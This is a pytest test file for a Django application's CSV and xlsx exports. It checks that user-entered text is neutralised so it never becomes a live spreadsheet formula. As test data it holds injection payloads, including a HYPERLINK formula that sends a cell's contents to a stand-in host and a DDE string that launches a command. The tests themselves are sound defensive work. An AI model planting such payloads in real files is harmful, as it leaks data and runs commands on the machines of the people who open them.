"""Issue 12 §5: text typed by a user never becomes a live formula in a CSV or xlsx we write."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from baanbehoud.organisations.models import Role
from baanbehoud.reports.exports import to_csv, to_xlsx
from baanbehoud.reports.table import Report, ReportTable
from baanbehoud.safe_cells import neutralise

from .world import build_world

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klik hier")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _report(text: str) -> Report:
    table = ReportTable(
        "leerpunten",
        "Leerpunten voor een volgende match",
        [("label", "Moment"), ("text", "Leerpunt")],
        [{"label": "Eerste halfjaar", "text": text}, {"label": "Later", "text": "gewoon - tekst"}],
    )
    return Report(key="redenen", title="Redenen", tables=[table], definitions=[text])


@pytest.mark.parametrize("text", ATTACKS)
def test_a_learning_point_is_text_in_the_report_csv(text):
    rows = list(csv.reader(io.StringIO(to_csv(_report(text)).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + text in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "gewoon - tekst" in cells  # ordinary text is left alone


@pytest.mark.parametrize("text", ATTACKS)
def test_a_learning_point_is_text_in_the_report_xlsx(text):
    book = load_workbook(io.BytesIO(to_xlsx(_report(text))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    # (XML keeps no lone carriage return: compare without the leading white space)
    found = [c for c in cells if isinstance(c.value, str) and c.value.strip() == text.strip()]
    assert [cell.data_type for cell in found] == ["s", "s"]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_numbers_stay_numbers():
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    # A report's net change rendered as text is a number, not a formula: no apostrophe.
    assert neutralise("-4") == "-4" and neutralise("-2,5") == "-2,5"
    assert neutralise("-4+cmd|' /C calc'!A0") == "'-4+cmd|' /C calc'!A0"
    assert neutralise("-1-1") == "'-1-1"


@pytest.mark.django_db
def test_a_supervisor_name_is_text_in_the_processing_log_csv(client):
    world = build_world()
    own = world.records["own"]
    supervisor = world.users[Role.WERKGEVER]
    supervisor.full_name = '=HYPERLINK("http://example.invalid","Verwerkingen")'
    supervisor.save()
    client.force_login(supervisor)
    assert client.get(reverse("placement-detail", args=[own.placement.pk])).status_code == 200
    client.force_login(world.users[Role.BEHEERDER])
    export = client.get(reverse("privacy-log-export", args=[own.person.pk]))
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    users = [row[1] for row in rows[1:]]
    assert "'" + supervisor.full_name in users
    assert not [cell for row in rows for cell in row if cell.startswith("=")]
